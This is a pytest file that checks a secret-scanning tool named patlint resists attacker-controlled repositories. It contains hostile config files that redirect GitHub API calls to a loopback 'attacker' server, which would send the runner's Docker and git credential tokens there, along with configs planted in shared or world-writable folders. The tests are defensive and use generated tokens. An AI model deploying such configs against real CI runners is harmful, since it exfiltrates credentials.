"""Issue 14: a scanned tree never steers patlint. The attacks, end to end.

The scanned tree is a real git repository an attacker controls (a pull request's checkout, a
cloned repository); the runner's home holds real credential files with generated tokens; the
loopback GitHub emulator plays the attacker's server. Whatever the tree's own config says, no
token reaches that server, nothing outside the tree is read on the tree's say-so, and a config
that is not the user's own is not used.
"""

from __future__ import annotations

import base64
import json
import os
import random
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from patlint.cli import cli
from patlint.tokengen import make_token
from tests.github_emulator import Emulator, emulator_running
from tests.report.textblocks import unwrap

pytestmark = pytest.mark.usefixtures("git_env")


@pytest.fixture
def attacker() -> Iterator[Emulator]:
    """The attacker's server: it would happily answer for any token it is sent."""
    yield from emulator_running()


@pytest.fixture
def runner_secrets(home: Path, attacker: Emulator) -> dict[str, str]:
    """What a CI runner's home holds: a Docker login and git's credential store."""
    rng = random.Random(1414)
    toks = {"docker": make_token("ghp", rng), "git-credentials": make_token("ghp", rng)}
    (home / ".docker").mkdir()
    auth = base64.b64encode(f"octo:{toks['docker']}".encode()).decode()
    (home / ".docker" / "config.json").write_text(
        json.dumps({"auths": {"ghcr.io": {"auth": auth}}}, indent=2)
    )
    (home / ".git-credentials").write_text(f"https://octo:{toks['git-credentials']}@github.com\n")
    for t in toks.values():
        attacker.add(t, scopes="repo, write:packages")
    return toks


def hostile_repo(path: Path, config: dict[str, str]) -> dict[str, str]:
    """A repository as `actions/checkout` leaves it (its token in `.git/config`), holding the
    attacker's `.patlint.yaml` or pyproject.toml; returns the tokens in it."""
    rng = random.Random(4141)
    toks = {"checkout": make_token("ghs", rng), "remote": make_token("ghp", rng)}
    path.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    header = base64.b64encode(f"x-access-token:{toks['checkout']}".encode()).decode()
    with open(path / ".git" / "config", "a") as fh:
        fh.write(
            f'[remote "origin"]\n\turl = https://octo:{toks["remote"]}@github.com/octo/app.git\n'
            f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {header}\n'
        )
    (path / "app.py").write_text("print('hello')\n")
    for name, text in config.items():
        (path / name).write_text(text)
    subprocess.run(["git", "-C", str(path), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(path), "commit", "-q", "-m", "pr"], check=True)
    return toks


def scan(*args: str) -> Result:
    return CliRunner().invoke(cli, ["scan", "--no-progress", *args])


def _config_files(key_yaml: str, key_toml: str) -> list[Any]:
    return [
        pytest.param({".patlint.yaml": key_yaml}, id="patlint.yaml"),
        pytest.param({"pyproject.toml": f"[tool.patlint]\n{key_toml}"}, id="pyproject.toml"),
    ]


EXFILTRATE = _config_files(
    "profile: workstation\ngithub_api: {github.com: 'URL'}\n",
    'profile = "workstation"\ngithub_api = {"github.com" = "URL"}\n',
)


@pytest.mark.parametrize("config", EXFILTRATE)
def test_the_scanned_repository_config_cannot_send_tokens_to_its_server(
    tmp_path: Path, attacker: Emulator, runner_secrets: dict[str, str], config: dict[str, str]
) -> None:
    """Attack 1: `profile: workstation` (read the runner's home) + `github_api` (send every
    token there), committed to the scanned repository; the README's CI step `patlint scan .`."""
    repo = tmp_path / "checkout"
    config = {name: text.replace("URL", attacker.base_url) for name, text in config.items()}
    repo_toks = hostile_repo(repo, config)
    res = scan("--format", "json", str(repo))
    assert attacker.requests == []  # not one request, so no token
    assert res.exit_code == 2, res.output
    assert "not taken from a config found in the scanned tree" in res.stderr
    assert "--trust-repo-config" in res.stderr and "--config FILE" in res.stderr
    for t in [*runner_secrets.values(), *repo_toks.values()]:
        assert t not in res.output

    # The same keys from a trusted place (the user's own config) are honoured: the home's
    # credential files are read and verified against the configured API.
    user_config = Path(os.environ["XDG_CONFIG_HOME"]) / "patlint" / "config.yaml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(
        f"profile: workstation\ngithub_api: {{github.com: '{attacker.base_url}'}}\n"
    )
    for name in config:
        (repo / name).unlink()
    res = scan("--format", "json", "--no-cache", str(repo))
    assert res.exit_code == 1, res.output
    assert set(runner_secrets.values()) <= attacker.tokens_seen()


def _connections(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Record every address a socket tries to reach (the conftest still refuses non-loopback)."""
    seen: list[Any] = []
    connect = socket.socket.connect

    def recording(self: socket.socket, address: Any) -> None:
        seen.append(address)
        return connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", recording)
    return seen


@pytest.mark.parametrize(
    "config",
    _config_files(
        "verification: {verify_unnamed_hosts: true}\n",
        "verification = {verify_unnamed_hosts = true}\n",
    ),
)
def test_the_scanned_repository_config_cannot_send_a_token_to_the_host_it_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: dict[str, str]
) -> None:
    """Attack 1, second form: `verify_unnamed_hosts` sends a token to whatever host the tree
    says it is for (here 127.0.0.1, so the attempt is observable without leaving the machine)."""
    repo = tmp_path / "checkout"
    hostile_repo(repo, config)
    tok = make_token("ghp", random.Random(5))
    (repo / "ci.env").write_text(f"GIT_URL=https://octo:{tok}@127.0.0.1/octo/app.git\n")
    seen = _connections(monkeypatch)
    res = scan("--format", "json", "--no-cache", str(repo))
    assert seen == []
    assert res.exit_code == 2, res.output
    assert "verification: not taken from a config found in the scanned tree" in res.stderr


def test_a_config_in_a_parent_folder_outside_a_repository_is_not_used(
    tmp_path: Path, attacker: Emulator
) -> None:
    """Attack 2: another local user drops `.patlint.yaml` in a shared parent folder (/tmp);
    a scan of a folder below it (not a repository) must not use it."""
    shared = tmp_path / "shared"
    (shared / "build").mkdir(parents=True)
    (shared / ".patlint.yaml").write_text(
        f"github_api: {{github.com: '{attacker.base_url}'}}\ndisable: [github-classic-pat]\n"
    )
    tok = make_token("ghp", random.Random(6))
    attacker.add(tok)
    (shared / "build" / "out.log").write_text(f"token={tok}\n")
    # --offline: nothing may be sent anyway; the question is which config the scan takes
    res = scan("--offline", "--format", "json", str(shared / "build"))
    report = json.loads(res.stdout)
    assert res.exit_code == 1, res.output
    assert [f["rule_id"] for f in report["findings"]] == ["github-classic-pat"]
    assert report["summary"]["config"] == "built-in defaults"
    # online too: the attacker's API is not where github.com tokens go
    res = scan("--format", "json", "--no-cache", str(shared / "build"))
    assert attacker.requests == []


def test_a_config_not_owned_by_the_user_is_not_used(tmp_path: Path) -> None:
    """Attack 2 in the scanned folder itself: a `.patlint.yaml` owned by someone else
    (root's scan of a folder in /tmp) is ignored, with a notice saying why."""
    if os.geteuid() != 0:
        pytest.skip("giving a file to another user needs root")
    root = tmp_path / "drop"
    root.mkdir()
    tok = make_token("ghp", random.Random(7))
    (root / "leak.txt").write_text(f"token={tok}\n")
    cfg = root / ".patlint.yaml"
    cfg.write_text("disable: [github-classic-pat]\n")
    os.chown(cfg, 65534, 65534)
    res = scan("--offline", "--format", "json", str(root))
    report = json.loads(res.stdout)
    assert [f["rule_id"] for f in report["findings"]] == ["github-classic-pat"]
    assert (
        f"config: {cfg} ignored: owned by uid 65534, not by the user running patlint (uid 0)"
        in report["notices"]
    )


@pytest.mark.parametrize("writable_by", ["others", "group"])
def test_a_config_others_can_write_is_not_used(tmp_path: Path, writable_by: str) -> None:
    root = tmp_path / "shared"
    root.mkdir()
    tok = make_token("ghp", random.Random(8))
    (root / "leak.txt").write_text(f"token={tok}\n")
    cfg = root / ".patlint.yaml"
    cfg.write_text("disable: [github-classic-pat]\n")
    if writable_by == "others":
        cfg.chmod(0o646)
        why = "writable by others"
    else:
        if os.geteuid() != 0:
            pytest.skip("giving a file to a shared group needs root")
        os.chown(cfg, 0, 100)  # group `users`: not root's private group
        cfg.chmod(0o664)
        why = "writable by group 100, which is not your private group"
    res = scan("--offline", "--format", "json", str(root))
    report = json.loads(res.stdout)
    assert [f["rule_id"] for f in report["findings"]] == ["github-classic-pat"]
    assert f"config: {cfg} ignored: {why}" in report["notices"]
    res = scan("--offline", str(root))  # and the text report says so too
    assert f"note: config: {cfg} ignored: {why}" in unwrap(res.stdout)
